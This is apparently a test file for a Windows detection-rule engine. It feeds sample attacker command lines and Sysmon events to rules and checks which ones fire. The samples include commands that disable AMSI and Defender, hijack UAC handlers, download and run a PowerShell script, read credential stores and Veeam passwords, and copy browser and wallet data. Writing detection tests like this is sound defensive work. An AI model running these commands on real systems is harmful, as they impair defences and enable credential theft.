    expect(titlesOf(sysmon1(6, 'C:\\Windows\\System32\\cscript.exe', '"C:\\Windows\\system32\\cscript.exe" "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Accessories\\x.vbs"'))).not.toContain(START);
  });

  it('bcdedit test signing, Everyone granted full control, credential files named on a command line', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const BCD = 'Boot Configuration Set To Load Unsigned Code With bcdedit';
    expect(hits([proc(1, `${S32}bcdedit.exe`, 'bcdedit  /set testsigning on')]).get(BCD)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(2, `${S32}bcdedit.exe`, 'bcdedit /enum {current}'))).not.toContain(BCD);
    expect(titlesOf(proc(3, `${S32}bcdedit.exe`, 'bcdedit /set {current} description "Windows 11"'))).not.toContain(BCD);
    const ACL = 'Full Control Granted To Everyone With icacls Or cacls';
    expect(hits([proc(4, `${S32}icacls.exe`, 'icacls "C:\\Users\\Public\\*" /grant Everyone:F /T /C /Q')]).get(ACL)).toEqual({ level: 'low', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(5, `${S32}icacls.exe`, 'icacls C:\\Data /grant Everyone:RX'))).not.toContain(ACL);
    expect(titlesOf(proc(6, `${S32}icacls.exe`, 'icacls C:\\Data /grant CORP\\admins:F'))).not.toContain(ACL);
    const CRED = 'Windows Credential Files Named On A Command Line';
    expect(hits([proc(7, `${S32}cmd.exe`, 'cmd.exe /c type C:\\Windows\\Panther\\unattend.xml')]).get(CRED)).toEqual({ level: 'low', tactics: ['credential-access'] });
    expect(titlesOf(proc(8, `${S32}cmd.exe`, 'cmd.exe /c dir /a:h C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Credentials\\'))).toContain(CRED);
    expect(titlesOf(proc(9, `${S32}cmd.exe`, 'cmd.exe /c type C:\\Windows\\Panther\\setupact.log'))).not.toContain(CRED);
  });

  it('token tools, DSRM passwords, file times, attributes and streams, shell history, AMSI, .NET profilers; near misses are not', () => {
    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const S32 = 'C:\\Windows\\System32\\';
    const POTATO = 'Potato-Style COM Impersonation Tool Arguments';
    expect(hits([proc(1, `${S32}cmd.exe`, 'cmd /c C:\\Users\\u\\x.exe -l 7777 -t * -p C:\\Windows\\system32\\notepad.exe -c {F7FD3FD6-9994-452D-8DA7-9A8FD87AEEF4}')]).get(POTATO)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(2, `${S32}cmd.exe`, 'cmd /c tool.exe -l 80 -p 8080 -c {config}'))).not.toContain(POTATO);
    const NSUDO = 'Program Started As TrustedInstaller Or SYSTEM With All Privileges';
    expect(hits([proc(3, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:T -P:E cmd"}')]).get(NSUDO)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(4, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:C -P:D cmd"}'))).not.toContain(NSUDO);
    const TOKEN = 'Token Manipulation Or Parent Process Spoofing PowerShell Cmdlets';
    expect(hits([proc(5, PS, "powershell.exe & {IEX (IWR 'https://example.org/Get-System.ps1'); Get-System -Technique Token}")]).get(TOKEN)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(6, PS, "powershell.exe -c Invoke-PPIDSpoof -Process notepad.exe -ParentId 4242"))).toContain(TOKEN);
    expect(titlesOf(proc(27, PS, "powershell.exe -c Start-ATHProcessUnderSpecificParent -ParentId 4242"))).not.toContain(TOKEN);
    expect(titlesOf(proc(7, PS, 'powershell.exe -c Get-SystemInfo | Out-File x.txt'))).not.toContain(TOKEN);
    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    expect(titlesOf(block(8, 'Get-WinlogonTokenSystem'))).toContain(`${TOKEN} (script block 4104)`);
    const DSRM = 'DSRM Administrator Password Set With ntdsutil';
    expect(hits([proc(9, `${S32}ntdsutil.exe`, 'ntdsutil "set dsrm password" "sync from domain account admin" "q" "q"')]).get(DSRM)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(10, `${S32}ntdsutil.exe`, 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q'))).not.toContain(DSRM);
    const TIMES = 'File Times Set From A PowerShell Command Line';
    expect(hits([proc(11, PS, 'powershell.exe & {Get-ChildItem C:\\x.txt | % { $_.CreationTime = "01/01/1970 00:00:00" }}')]).get(TIMES)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(12, PS, 'powershell.exe -c (Get-Item C:\\x.txt).CreationTime'))).not.toContain(TIMES);
    const HIDDEN = 'File Made Hidden Or System From A PowerShell Command Line';
    expect(hits([proc(13, PS, "powershell.exe & {$file = Get-Item $env:temp\\data.txt -Force; $file.attributes='Hidden'}")]).get(HIDDEN)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(14, PS, "powershell.exe & {$f = Get-Item x.txt; $f.Attributes = [System.IO.FileAttributes]::Normal}"))).not.toContain(HIDDEN);
    const ADS = 'Alternate Data Stream Written From A Command Line';
    expect(hits([proc(15, PS, 'powershell.exe & {Set-Content -Path $env:TEMP\\a.txt -Stream hidden.txt -Value x}')]).get(ADS)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(16, `${S32}cmd.exe`, 'cmd.exe /c type C:\\Windows\\system32\\cmd.exe > "C:\\Users\\Public\\desktop.ini:desktop.ini"'))).toContain(ADS);
    expect(titlesOf(proc(17, `${S32}cmd.exe`, 'cmd.exe /c echo x > C:\\Temp\\out.txt'))).not.toContain(ADS);
    expect(titlesOf(proc(18, PS, 'powershell.exe -c Get-Content x.txt -Stream Zone.Identifier'))).not.toContain(ADS);
    const HIST = 'PowerShell Command History Deleted Or Turned Off';
    expect(hits([proc(19, PS, 'powershell.exe & {Remove-Item (Get-PSReadlineOption).HistorySavePath}')]).get(HIST)).toEqual({ level: 'medium', tactics: ['stealth'] });
    expect(titlesOf(proc(20, PS, 'powershell.exe & {Set-PSReadLineOption -AddToHistoryHandler { return $false }}'))).toContain(HIST);
    expect(titlesOf(proc(21, PS, 'powershell.exe -c Get-Content (Get-PSReadlineOption).HistorySavePath'))).not.toContain(HIST);
    const AMSI = 'AMSI Provider Removed Or AMSI COM Server Redirected From The Command Line';
    expect(hits([proc(22, PS, 'powershell.exe & {Remove-Item -Path "HKLM:\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}" -Recurse}')]).get(AMSI)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(23, `${S32}reg.exe`, 'REG ADD HKCU\\Software\\Classes\\CLSID\\{fdb00e52-a214-4aa1-8fba-4357bb0072ec}\\InProcServer32 /ve /t REG_SZ /d C:\\x.dll /f'))).toContain(AMSI);
    expect(titlesOf(proc(24, `${S32}reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers'))).not.toContain(AMSI);
    const COR = '.NET Profiler Set From A Command Line (COR_PROFILER)';
    expect(hits([proc(25, PS, "powershell.exe & {$env:COR_ENABLE_PROFILING = 1; $env:COR_PROFILER = '{09108e71-974c-4010-89cb-acf471ae9e2c}'; powershell -c 'Start-Sleep 1'}")]).get(COR)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(26, PS, 'powershell.exe -c Get-ChildItem env:'))).not.toContain(COR);
  });

  it('Defender tasks, UAC handler hijacks, root certificates, IIS logging, forfiles, hidden windows, registry redirections; near misses are not', () => {
    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const S32 = 'C:\\Windows\\System32\\';
    const TASKS = 'Microsoft Defender Scheduled Tasks Deleted Or Disabled';
    expect(hits([proc(1, `${S32}schtasks.exe`, 'schtasks  /delete /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan" /f')]).get(TASKS)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(2, `${S32}schtasks.exe`, 'schtasks  /query /xml /tn "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup"'))).not.toContain(TASKS);
    const UAC = 'Auto-Elevating Handler Hijacked From The Command Line (UAC Bypass)';
    expect(hits([proc(3, PS, 'powershell.exe & {New-Item "HKCU:\\software\\classes\\mscfile\\shell\\open\\command" -Force; Set-ItemProperty "HKCU:\\software\\classes\\mscfile\\shell\\open\\command" -Name "(default)" -Value cmd.exe}')]).get(UAC)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(4, `${S32}reg.exe`, 'reg query HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command'))).not.toContain(UAC);
    const ROOT = 'Root Certificate Added From A Command Line';
    expect(hits([proc(5, PS, 'powershell.exe & {$c = Import-Certificate -FilePath ca.cer -CertStoreLocation Cert:\\LocalMachine\\My; Move-Item -Path $c.PSPath -Destination "Cert:\\LocalMachine\\Root"}')]).get(ROOT)).toEqual({ level: 'medium', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(6, PS, 'powershell.exe -c Get-ChildItem Cert:\\LocalMachine\\Root'))).not.toContain(ROOT);
    const IIS = 'IIS HTTP Logging Turned Off From A Command Line';
    expect(hits([proc(7, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:true')]).get(IIS)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(8, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe set config "Default Web Site" /section:httplogging /dontLog:false'))).not.toContain(IIS);
    const FOR = 'Program Started Through forfiles';
    expect(hits([proc(9, `${S32}forfiles.exe`, 'forfiles  /p c:\\windows\\system32 /m notepad.exe /c calc.exe')]).get(FOR)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(10, `${S32}forfiles.exe`, 'forfiles /p C:\\Logs /m *.log /d -30'))).not.toContain(FOR);
    const HID = 'Process Started With A Hidden Window From PowerShell';
    expect(hits([proc(11, PS, 'powershell.exe & {Start-Process powershell.exe -WindowStyle hidden calc.exe}')]).get(HID)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(12, PS, 'powershell.exe & {Start-Process notepad.exe -WindowStyle Maximized}'))).not.toContain(HID);
    const AUTO = 'Auto-Start Registry Location Written From The Command Line';
    const auto = hits([proc(13, `${S32}reg.exe`, 'reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Event Viewer" /v MicrosoftRedirectionProgram /t REG_EXPAND_SZ /d "C:\\x.exe" /f')]).get(AUTO);
    expect(auto?.level).toBe('medium');
    expect(titlesOf(proc(14, `${S32}reg.exe`, 'reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe" /t REG_SZ /d C:\\x.exe /f'))).toContain(AUTO);
    expect(titlesOf(proc(15, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe"'))).not.toContain(AUTO);
    const WEAK = 'Registry Value That Weakens Or Hides Windows Defences Written From The Command Line';
    expect(titlesOf(proc(16, `${S32}reg.exe`, 'reg  add HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\ImmersiveShell /v UseActionCenterExperience /t REG_DWORD /d 0 /f'))).toContain(WEAK);
    expect(titlesOf(proc(17, `${S32}reg.exe`, 'reg  add "HKCU\\Software\\Microsoft\\Terminal Server Client" /v AuthenticationLevelOverride /t REG_DWORD /d 0 /f'))).toContain(WEAK);
    expect(titlesOf(proc(18, `${S32}reg.exe`, 'reg query "HKCU\\Software\\Microsoft\\Terminal Server Client" /v AuthenticationLevelOverride'))).not.toContain(WEAK);
  });

  it('WMI subscriptions, PowerShell profiles, IIS modules, Office add-ins, shims, termsrv.dll, web roots, PsExec-like arguments, BITS; near misses are not', () => {
    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const S32 = 'C:\\Windows\\System32\\';
    const WMI = 'WMI Event Subscription Created From A Command Line';
    expect(hits([proc(1, PS, "powershell.exe & {$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments $fa; $c = Set-WmiInstance -Class CommandLineEventConsumer -Arguments $ca}")]).get(WMI)).toEqual({ level: 'high', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(2, PS, 'powershell.exe -c Get-WmiObject -Namespace root\\subscription -Class __EventFilter'))).not.toContain(WMI);
    const PROF = 'PowerShell Profile Written From A Command Line';
    expect(hits([proc(3, PS, 'powershell.exe & {Add-Content $profile -Value "Start-Process calc.exe"}')]).get(PROF)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(4, PS, 'powershell.exe -c Test-Path $profile'))).not.toContain(PROF);
    const IISM = 'IIS Native Module Installed From A Command Line';
    expect(hits([proc(5, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe install module /name:M /image:C:\\Windows\\Temp\\m.dll')]).get(IISM)).toEqual({ level: 'medium', tactics: ['persistence'] });
    expect(titlesOf(proc(6, `${S32}inetsrv\\appcmd.exe`, 'appcmd.exe list modules'))).not.toContain(IISM);
    const ADDIN = 'Office Add-In Put In A Start-Up Folder Or Registered From A Command Line';
    expect(hits([proc(7, PS, 'powershell.exe & {Copy C:\\Temp\\a.xlam "$env:APPDATA\\Microsoft\\Excel\\XLSTART\\a.xlam"; Start-Process Excel}')]).get(ADDIN)).toEqual({ level: 'low', tactics: ['persistence'] });
    expect(titlesOf(proc(8, PS, 'powershell.exe & {Copy C:\\Temp\\book.xlsx "$env:APPDATA\\Microsoft\\Excel\\XLSTART\\book.xlsx"}'))).not.toContain(ADDIN);
    const SHIM = 'Shim Database Put In The Custom Shim Folder From A Command Line';
    expect(hits([proc(9, PS, 'powershell.exe & {Copy-Item C:\\Temp\\x.sdb C:\\Windows\\apppatch\\Custom\\x.sdb}')]).get(SHIM)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(10, `${S32}cmd.exe`, 'cmd /c dir C:\\Windows\\apppatch\\Custom'))).not.toContain(SHIM);
    const TERM = 'Terminal Services DLL Taken Over Or Replaced From A Command Line';
    expect(hits([proc(11, `${S32}takeown.exe`, 'takeown /f C:\\Windows\\System32\\termsrv.dll')]).get(TERM)).toEqual({ level: 'medium', tactics: ['persistence'] });
    expect(titlesOf(proc(12, PS, 'powershell.exe -c Get-Item C:\\Windows\\System32\\termsrv.dll | Select VersionInfo'))).not.toContain(TERM);
    const WEB = 'Files Copied Into The IIS Web Root From A Command Line';
    expect(hits([proc(13, `${S32}xcopy.exe`, 'xcopy  /I /Y "C:\\Users\\u\\src" C:\\inetpub\\wwwroot')]).get(WEB)).toEqual({ level: 'low', tactics: ['persistence'] });
    expect(titlesOf(proc(14, `${S32}cmd.exe`, 'cmd /c dir C:\\inetpub\\wwwroot'))).not.toContain(WEB);
    const REM = 'Remote Command Execution Tool Arguments (PsExec-Like)';
    expect(hits([proc(15, 'C:\\Tools\\r.exe', 'C:\\Tools\\r.exe  \\\\srv2 /user:Administrator /pwd:secret cmd.exe')]).get(REM)).toEqual({ level: 'low', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(proc(16, 'C:\\Tools\\p.exe', 'C:\\Tools\\p.exe \\\\srv2 -accepteula cmd /c ipconfig'))).toContain(REM);
    expect(titlesOf(proc(17, `${S32}net.exe`, 'net use \\\\srv2\\c$ /user:CORP\\admin secret'))).not.toContain(REM);
    expect(titlesOf(proc(18, `${S32}cmd.exe`, 'cmd /c dir \\\\srv2\\share'))).not.toContain(REM);
    const BITS = 'BITS Transfer Started From PowerShell Or desktopimgdownldr';
    expect(hits([proc(19, PS, 'powershell.exe & {Start-BitsTransfer -Source https://example.org/a -Destination $env:TEMP\\a.ps1}')]).get(BITS)).toEqual({ level: 'low', tactics: ['persistence', 'stealth'] });
    expect(titlesOf(proc(20, PS, 'powershell.exe -c Get-BitsTransfer -AllUsers'))).not.toContain(BITS);
  });

  it('group members added from PowerShell, policy refresh intervals, Internet shortcuts, unquoted-path programs, account names with a trailing space; near misses are not', () => {
    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const S32 = 'C:\\Windows\\System32\\';
    const GRP = 'Group Member Added With The PowerShell Account Cmdlets';
    expect(hits([proc(1, PS, 'powershell.exe & {Import-Module ActiveDirectory; New-ADUser -Name u1; Add-ADGroupMember -Identity "Domain Admins" -Members u1}')]).get(GRP)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(2, PS, 'powershell.exe -c Get-ADGroupMember -Identity "Domain Admins"'))).not.toContain(GRP);
    const GPO = 'Group Policy Refresh Interval Changed From The Command Line';
    expect(hits([proc(3, PS, 'powershell.exe & {New-ItemProperty "HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" -Name GroupPolicyRefreshTimeDC -PropertyType DWord -Value 0 -Force}')]).get(GPO)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth', 'defense-impairment'] });
    expect(titlesOf(proc(4, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\System" /v GroupPolicyRefreshTime'))).not.toContain(GPO);
    const URL = 'Internet Shortcut Written From A Command Line';
    expect(hits([proc(5, `${S32}cmd.exe`, 'cmd.exe /c echo [InternetShortcut] > %temp%\\a.url & echo URL=C:\\windows\\system32\\calc.exe >> %temp%\\a.url')]).get(URL)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(6, `${S32}cmd.exe`, 'cmd.exe /c start %USERPROFILE%\\Favorites\\site.url'))).not.toContain(URL);
    const UNQ = 'Program Written At A Path An Unquoted Service Path Reaches';
    expect(hits([proc(7, `${S32}cmd.exe`, 'cmd.exe /c copy C:\\Users\\u\\svc.exe "C:\\program.exe"')]).get(UNQ)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(8, `${S32}cmd.exe`, 'cmd.exe /c copy C:\\Users\\u\\svc.exe "C:\\Program Files\\Vendor\\svc.exe"'))).not.toContain(UNQ);
    const SPACE = 'User Account Named With A Trailing Space';
    expect(hits([sec(9, 4720, { TargetUserName: 'Administrator ', TargetDomainName: 'SRV01', SubjectUserName: 'alice' })]).get(SPACE)).toEqual({ level: 'medium', tactics: ['persistence', 'stealth'] });
    expect(titlesOf(sec(10, 4720, { TargetUserName: 'Administrator2', TargetDomainName: 'SRV01', SubjectUserName: 'alice' }))).not.toContain(SPACE);
    expect(titlesOf(sec(11, 4781, { OldTargetUserName: 'bob', NewTargetUserName: 'Guest ', SubjectUserName: 'alice' }))).toContain(SPACE);
  });

  const sysmon = (t: number, eventId: number, data: JsonRecord): Ev => win(t, ...SYSMON, eventId, data);

  it('discovery tools on the network (Sysmon 3, low), PowerShell logging switched off with binary data (high), execution policy set to Bypass/Unrestricted (low); near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const DISC = 'Network Connection By A Discovery Or Scanning Tool (Sysmon 3)';
    const net3 = (t: number, image: string): Ev => sysmon(t, 3, { Image: image, Protocol: 'udp', Initiated: 'true', DestinationIp: '10.0.0.1', DestinationPort: '53', User: 'CORP\\bob' });
    expect(hits([net3(1, `${S32}nslookup.exe`)]).get(DISC)).toEqual({ level: 'low', tactics: ['discovery'] });
    expect(titlesOf(net3(2, `${S32}systeminfo.exe`))).toContain(DISC);
    expect(titlesOf(net3(3, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'))).not.toContain(DISC);
    const reg = (t: number, key: string, details: string): Ev => sysmon(t, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: key, Details: details, User: 'CORP\\bob' });
    const PSP = 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\';
    const OFF = 'PowerShell Logging Disabled In The Registry (Sysmon 12/13)';
    expect(hits([reg(4, `${PSP}ScriptBlockLogging\\EnableScriptBlockLogging`, 'Binary Data')]).get(OFF)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(titlesOf(reg(5, `${PSP}ScriptBlockLogging\\EnableScriptBlockLogging`, 'DWORD (0x00000001)'))).not.toContain(OFF);
    const POLICY = 'PowerShell Execution Policy Set To Bypass Or Unrestricted In The Registry (Sysmon 13)';
    expect(hits([reg(6, `${PSP}ExecutionPolicy`, 'Bypass')]).get(POLICY)).toEqual({ level: 'low', tactics: ['execution', 'defense-impairment'] });
    expect(titlesOf(reg(7, 'HKU\\S-1-5-21-1-2-3-1104\\SOFTWARE\\Microsoft\\PowerShell\\1\\ShellIds\\Microsoft.PowerShell\\ExecutionPolicy', 'Unrestricted'))).toContain(POLICY);
    expect(titlesOf(reg(8, `${PSP}ExecutionPolicy`, 'RemoteSigned'))).not.toContain(POLICY);
    expect(titlesOf(reg(9, 'HKLM\\SOFTWARE\\Vendor\\App\\ExecutionPolicy', 'Bypass'))).not.toContain(POLICY);
  });

  it('server roles: gMSA and bulk LAPS reads by users, a Credentials table queried from a SQL client, Configuration Manager scripts; computers and single reads are not', () => {
    const GMSA = 'Group Managed Service Account Password Read By A User Account';
    const read = (t: number, user: string, props: string): Ev => win(t, ...SEC, 4662, { SubjectUserName: user, ObjectServer: 'DS', ObjectType: '%{7b8b558a-93a5-4af7-adca-c017e67f1057}', ObjectName: '%{11111111-2222-3333-4444-555555555555}', AccessList: '%%7684\r\n', AccessMask: '0x10', Properties: props });
    const managed = '%%7684\r\n{e362ed86-b728-0842-b27d-2dea7a9df218}\r\n{7b8b558a-93a5-4af7-adca-c017e67f1057}';
    expect(hits([read(1, 'svc_monitor', managed)]).get(GMSA)).toEqual({ level: 'high', tactics: ['credential-access'] });
    expect(titlesOf(read(2, 'SQL01$', managed))).not.toContain(GMSA);
    const LAPS = 'Confidential Attributes Of Many Computers Read By One Account';
    const control = (t: number, user: string, i: number): Ev =>
      win(t, ...SEC, 4662, { SubjectUserName: user, ObjectServer: 'DS', ObjectType: '%{bf967a86-0de6-11d0-a285-00aa003049e2}', ObjectName: `%{0000000${i}-0000-0000-0000-000000000000}`, AccessList: '%%7688\r\n', AccessMask: '0x100' });
    expect(hits(Array.from({ length: 11 }, (_, i) => control(i, 'j.rivera', i))).get(LAPS)?.tactics).toEqual(['credential-access']);
    expect(hits(Array.from({ length: 3 }, (_, i) => control(i, 'helpdesk', i))).has(LAPS)).toBe(false);
    expect(hits(Array.from({ length: 11 }, (_, i) => control(i, 'LAPSSRV$', i))).has(LAPS)).toBe(false);
    const VEEAM = 'SQL Client Reads A Credentials Table';
    const SQLCMD = 'C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\SQLCMD.EXE';
    expect(hits([sysmon1(3, SQLCMD, 'SQLCMD.EXE -S localhost\\VEEAMSQL2016 -E -Q "SELECT [user_name],[password] FROM [VeeamBackup].[dbo].[Credentials]"')]).get(VEEAM)).toEqual({ level: 'high', tactics: ['credential-access'] });
    expect(titlesOf(sysmon1(4, SQLCMD, 'SQLCMD.EXE -S localhost -E -Q "SELECT name FROM sys.databases"'))).not.toContain(VEEAM);
    const SCCM = 'Script Run By The Configuration Manager Client From Its Script Store';
    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    expect(hits([sysmon1(5, PS, `powershell.exe -NoProfile -ExecutionPolicy Bypass "& 'C:\\Windows\\CCM\\ScriptStore\\70E7.ps1'"`, { ParentImage: 'C:\\Windows\\CCM\\CcmExec.exe' })]).get(SCCM)).toEqual({ level: 'medium', tactics: ['execution', 'lateral-movement'] });
    expect(titlesOf(sysmon1(6, PS, 'powershell.exe -File C:\\Scripts\\inventory.ps1', { ParentImage: 'C:\\Windows\\CCM\\CcmExec.exe' }))).not.toContain(SCCM);
  });

  it('infostealers: browser and wallet stores copied out of their profiles, Mozilla crypto libraries dropped in ProgramData; browsers and Mozilla installs are not', () => {
    const COPY = 'Browser Or Wallet Credential Store Copied Out Of Its Profile (Sysmon 11)';
    const file = (t: number, image: string, target: string): Ev => sysmon(t, 11, { Image: image, TargetFilename: target, User: 'CORP\\bob' });
    const PYW = 'C:\\Users\\bob\\AppData\\Local\\Programs\\PyRuntime\\pythonw.exe';
    expect(hits([file(1, PYW, 'C:\\Users\\bob\\AppData\\Local\\Temp\\hx91\\Browsers\\Chrome\\Default\\Login Data')]).get(COPY)).toEqual({ level: 'high', tactics: ['credential-access', 'collection'] });
    expect(titlesOf(file(2, PYW, 'C:\\Users\\bob\\AppData\\Local\\Temp\\hx91\\Wallets\\Exodus\\exodus.wallet\\seed.seco'))).toContain(COPY);
    const CHROME = 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe';
    expect(titlesOf(file(3, CHROME, 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data'))).not.toContain(COPY);
    expect(titlesOf(file(4, 'C:\\Program Files\\Backup\\agent.exe', 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cookies'))).not.toContain(COPY);
    const NSS = 'Mozilla Crypto Libraries Dropped Outside A Mozilla Install (Sysmon 11)';
    const SETUP = 'C:\\Users\\bob\\Downloads\\Setup.exe';
    expect(hits([file(5, SETUP, 'C:\\ProgramData\\nss3.dll')]).get(NSS)).toEqual({ level: 'high', tactics: ['credential-access'] });
    expect(titlesOf(file(6, SETUP, 'C:\\Users\\bob\\AppData\\Local\\Mozilla Firefox\\nss3.dll'))).not.toContain(NSS);
    expect(titlesOf(file(7, SETUP, 'C:\\Program Files\\Vendor\\mozglue.dll'))).not.toContain(NSS);
  });

  it('injection and LSASS from code outside any module, elevated COM objects, LSASS as a parent; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const UNBACKED = 'LSASS Opened From Code Outside Any Module (Sysmon 10)';
    const trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e|UNKNOWN(000001F2A3B4C5D6)';
    expect(hits([sysmon(1, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1410', CallTrace: trace })]).get(UNBACKED)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth', 'credential-access'] });
    expect(titlesOf(sysmon(2, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1000', CallTrace: trace }))).not.toContain(UNBACKED);
    expect(titlesOf(sysmon(3, 10, { SourceImage: `${S32}wbem\\WmiPrvSE.exe`, TargetImage: `${S32}lsass.exe`, GrantedAccess: '0x1410', CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9c584|C:\\Windows\\System32\\KERNELBASE.dll+2730e' }))).not.toContain(UNBACKED);
    const THREAD = 'Remote Thread Created By A Script Host Or Proxy Binary (Sysmon 8)';
    expect(hits([sysmon(4, 8, { SourceImage: PS, TargetImage: 'C:\\Windows\\explorer.exe', StartModule: '', StartFunction: '' })]).get(THREAD)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon(5, 8, { SourceImage: `${S32}csrss.exe`, TargetImage: 'C:\\Windows\\explorer.exe', StartModule: `${S32}kernel32.dll` }))).not.toContain(THREAD);
    const RIGHTS = 'Windows Process Opened With Injection Rights By A Program From A User Folder (Sysmon 10)';
    expect(hits([sysmon(6, 10, { SourceImage: 'C:\\Users\\u\\AppData\\Local\\Temp\\i.exe', TargetImage: `${S32}notepad.exe`, GrantedAccess: '0x1F0FFF' })]).get(RIGHTS)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon(7, 10, { SourceImage: 'C:\\Users\\u\\AppData\\Local\\Temp\\i.exe', TargetImage: `${S32}notepad.exe`, GrantedAccess: '0x1000' }))).not.toContain(RIGHTS);
    expect(titlesOf(sysmon(8, 10, { SourceImage: 'C:\\Program Files\\Vendor\\agent.exe', TargetImage: `${S32}notepad.exe`, GrantedAccess: '0x1FFFFF' }))).not.toContain(RIGHTS);
    const COM = 'Auto-Elevating COM Object Hosted For A Program (UAC Bypass)';
    const CHILD = 'Program Started By An Auto-Elevating COM Object Host (UAC Bypass)';
    expect(hits([sysmon1(9, `${S32}dllhost.exe`, `${S32}DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}`, { ParentImage: `${S32}svchost.exe` })]).get(COM)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(sysmon1(10, `${S32}dllhost.exe`, `${S32}DllHost.exe /Processid:{3AD05575-8857-4850-9277-11B85BDB8E09}`, { ParentImage: `${S32}svchost.exe` }))).not.toContain(COM);
